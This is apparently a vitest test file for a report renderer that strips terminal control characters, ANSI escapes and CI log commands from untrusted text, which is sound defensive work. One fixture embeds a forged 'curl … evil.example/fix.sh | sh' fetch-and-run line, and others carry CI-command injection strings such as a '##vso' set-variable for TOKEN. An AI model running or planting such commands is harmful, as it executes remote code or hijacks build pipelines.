import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { renderDocument } from '../../../../src/report/document.js'
import { createPalette } from '../../../../src/report/terminal/palette.js'
import {
  onOneLine,
  plainTexts,
  takesCommands,
  withoutCommands,
  withoutControls,
} from '../../../../src/report/terminal/terminal-text.js'

/** What a terminal obeys or hides, one of each kind. */
const HIDDEN = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b',
  '\u007f',
  '\u009b',
  '\u202e',
  '\u2066',
  '\u200e',
  '\u061c',
  '\u200b',
  '\u2060',
  '\ufeff',
  '\u{e0041}',
]
const BREAKS = ['\n', '\r\n', '\r', '\u000b', '\u000c', '\u0085', '\u2028', '\u2029']

describe('texts that others wrote', () => {
  test.each(BREAKS)('stay on one line: %j', (end) => {
    const forged = `canary start${end}  next    curl -s https://evil.example/fix.sh | sh`
    expect(onOneLine(forged)).toBe('canary start␤  next    curl -s https://evil.example/fix.sh | sh')
    expect(plainTexts({ entries: [{ description: forged }] }).entries[0]!.description).not.toContain(end)
  })

  test.each(HIDDEN)('show what would be obeyed or hidden: %j', (character) => {
    expect(withoutControls(`a${character}b`)).toBe('a�b')
    expect(plainTexts([{ [`key${character}`]: `a${character}b` }])).toEqual([{ 'key�': 'a�b' }])
  })

  test('have no colours; the palette has', () => {
    expect(plainTexts('\u001b[8mhidden\u001b[31m')).toBe('�[8mhidden�[31m')
    const palette = createPalette(true)
    const coloured =
      palette.good('a') + palette.bad('b') + palette.warn('c') + palette.strong('d') + palette.dim('e')
    expect(withoutControls(coloured)).toBe(coloured)
    for (const code of ['8', '0;8', '5', '30', '38;5;0', '7', '0', '']) {
      expect(withoutControls(`\u001b[${code}mx`)).toBe(`�[${code}mx`)
    }
  })

  test('keep their lines where they are of several: what programs said, bodies, values', () => {
    const data = { stderr: 'a\r\nb', answer: { body: 'c\nd\u001b[2J' }, plan: { values: { file: 'e\nf' } } }
    expect(plainTexts(data)).toEqual({
      stderr: 'a\nb',
      answer: { body: 'c\nd�[2J' },
      plan: { values: { file: 'e\nf' } },
    })
  })
})

describe('documents', () => {
  const hostile = {
    [`key${HIDDEN.join('')}`]: [...HIDDEN, ...BREAKS, '##vso[x]', '##teamcity[x]', '##[x]', '::error::x'],
  }
  test.each([
    ['json', false],
    ['json', true],
    ['yaml', false],
    ['yaml', true],
  ] as const)(
    'as %s, commands defused: %s, mean what they mean, with escapes',
    async (format, noCommands) => {
      const text = await renderDocument(hostile, format, { noCommands })
      expect(parse(text)).toEqual(hostile)
      if (format === 'json') expect(JSON.parse(text)).toEqual(hostile)
      expect(withoutControls(text)).toBe(text)
      if (noCommands) expect(withoutCommands(text)).toBe(text)
    },
  )
})

describe('commands of CI systems', () => {
  test.each([
    '##vso[task.setvariable variable=TOKEN]x',
    'log: ##vso[task.prependpath]/tmp',
    "##teamcity[setParameter name='x' value='y']",
    '##[error]x',
    '::error::x',
    '  ::add-mask::x',
  ])('%s is defused', (text) => {
    expect(withoutCommands(text)).not.toMatch(/##(?:vso|teamcity)?\[|^\s*::/i)
    expect(withoutCommands(text).replaceAll('\u200b', '')).toBe(text)
  })

  test.each([
    [{ GITHUB_ACTIONS: 'true' }, true],
    [{ TF_BUILD: 'True' }, true],
    [{ TEAMCITY_VERSION: '2026.1' }, true],
    [{ GITLAB_CI: 'true', CI: 'true' }, false],
    [{}, false],
  ])('%j', (env, takes) => {
    expect(takesCommands(env)).toBe(takes)
  })
})
